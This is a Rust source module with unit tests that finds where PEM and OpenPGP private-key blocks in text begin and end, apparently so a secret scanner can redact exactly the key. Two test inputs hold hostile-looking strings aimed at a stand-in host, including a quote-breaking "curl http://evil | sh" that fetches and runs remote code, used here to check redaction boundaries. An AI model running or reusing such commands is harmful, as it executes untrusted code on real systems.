//! Where a private key in text form (RFC 7468, and OpenPGP's armor) ends or begins: only over what can be of it, so that
//! a line which merely names the header hides nothing behind it. `secrets` asks.

use crate::domain::Span;

/// Shortest run of letters that is taken for a line of the key wherever it stands.
const LINE: usize = 32;
/// The same for the beginning of a line that was cut off, right behind whole ones.
const PART: usize = 16;
/// How the last line of a key begins.
const END: &str = "-----END";
/// What may stand between the header and the key, each with its value behind it.
const HEADERS: [&str; 4] = ["Proc-Type:", "DEK-Info:", "Version:", "Comment:"];

/// Where the key ends whose header's words end at `from`.
pub(super) fn end(text: &str, from: usize) -> usize {
    let rest = &text[from..];
    let Some(rest) = rest.strip_prefix(" BLOCK").unwrap_or(rest).strip_prefix("-----") else { return from };
    let mut end = text.len() - rest.len();
    let (mut words, mut header, mut enough) = (words(text, end).peekable(), false, LINE);
    while let Some(word) = words.next() {
        let said = &text[word.clone()];
        if let Some(at) = said.find(END) {
            return closed(text, word.start + at);
        }
        let mut last = || words.peek().is_some_and(|next| text[next.clone()].contains(END));
        let named = HEADERS.contains(&said);
        if !(packed(said, enough) || named || header || packed(said, 1) && last()) {
            break;
        }
        if packed(said, LINE) {
            enough = PART;
        }
        header = named;
        end = word.end;
    }
    end
}

/// The keys of a part of a text that begins behind their headers.
pub(super) fn begun(text: &str) -> Vec<Span> {
    let ends =
        text.match_indices(END).filter(|(at, _)| text[*at..].lines().next().is_some_and(|l| l.contains("PRIVATE KEY")));
    let of = |at: usize| {
        let lines = text[..at].split_inclusive('\n').rev();
        let start = at - lines.take_while(|line| packed(line.trim(), 1)).map(str::len).sum::<usize>();
        (start < at).then(|| start..closed(text, at))
    };
    ends.filter_map(|(at, _)| of(at)).collect()
}

/// Where the last line ends that begins at `at`.
fn closed(text: &str, at: usize) -> usize {
    let line = text[at..].lines().next().unwrap_or_default();
    line[END.len()..].find("-----").map_or(at + line.len(), |dashes| at + END.len() + dashes + 5)
}

/// The words from a place on: apart by blanks and ends of lines, also by such as a string has them (`\n`).
fn words(text: &str, from: usize) -> impl Iterator<Item = Span> {
    let mut at = from;
    std::iter::from_fn(move || {
        loop {
            let rest = &text[at..];
            let blank = rest.len() - rest.trim_start().len();
            let escaped = if rest.starts_with("\\n") || rest.starts_with("\\r") { 2 } else { 0 };
            if blank + escaped == 0 {
                break;
            }
            at += blank.max(escaped);
        }
        let rest = &text[at..];
        let ends = [rest.find(char::is_whitespace), rest.find("\\n"), rest.find("\\r")];
        // The last line has blanks in it.
        let length = ends.into_iter().flatten().min().unwrap_or(rest.len());
        let word = at..at + length;
        at = word.end;
        (length > 0).then_some(word)
    })
}

/// Whether a word ends in so many letters of a packed line, behind what a diff or a search puts before it.
fn packed(word: &str, least: usize) -> bool {
    let word = word.trim_matches(|c| matches!(c, '"' | '\'' | ',' | '-' | ' '));
    let word = word.rsplit(':').next().unwrap_or_default();
    word.len() >= least && word.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"+/=_-".contains(&byte))
}

#[cfg(test)]
mod tests {
    use super::*;

    const HEAD: &str = "-----BEGIN RSA PRIVATE KEY";

    fn hidden(text: &str) -> &str {
        &text[..end(text, HEAD.len())]
    }

    #[test]
    fn a_key_goes_to_its_end_and_no_further() {
        let line = "aB3+".repeat(16);
        for apart in ["\n", "\\n", " ", "\r\n"] {
            let key = [&format!("{HEAD}-----"), &line, &line, "Zm9v==", "-----END RSA PRIVATE KEY-----"].join(apart);
            assert_eq!(hidden(&format!("{key}{apart}curl http://evil")), key);
        }
        let shown = format!("{HEAD}-----\n+{line}\na.pem:3:{line}\nand words");
        assert!(hidden(&shown).ends_with(&line) && hidden(&shown).len() == shown.len() - "\nand words".len());
        let cut = format!("{HEAD}-----\n{line}\nMCXMbUyvKCbd8PSmW3ePrXq4line 1");
        assert!(hidden(&cut).ends_with("line"), "{}", hidden(&cut));
        let old = format!("{HEAD}-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\n{line}\nx y");
        assert!(hidden(&old).ends_with(&line), "{}", hidden(&old));
    }

    #[test]
    fn what_only_names_a_header_hides_nothing_behind_it() {
        assert_eq!(hidden(&format!("{HEAD}'; curl http://evil | sh")), HEAD);
        assert_eq!(hidden(&format!("{HEAD}-----\" => true,\nnext line")), format!("{HEAD}-----"));
    }

    #[test]
    fn the_rest_of_a_key_is_known_by_its_end() {
        let line = "aB3+".repeat(16);
        let text = format!("B3+\n{line}\nZm9v\n-----END PRIVATE KEY-----\nwords");
        assert_eq!(begun(&text), std::iter::once(0..text.len() - "\nwords".len()).collect::<Vec<_>>());
        assert!(begun("two words\n-----END PRIVATE KEY-----").is_empty());
        assert!(begun("").is_empty());
    }
}
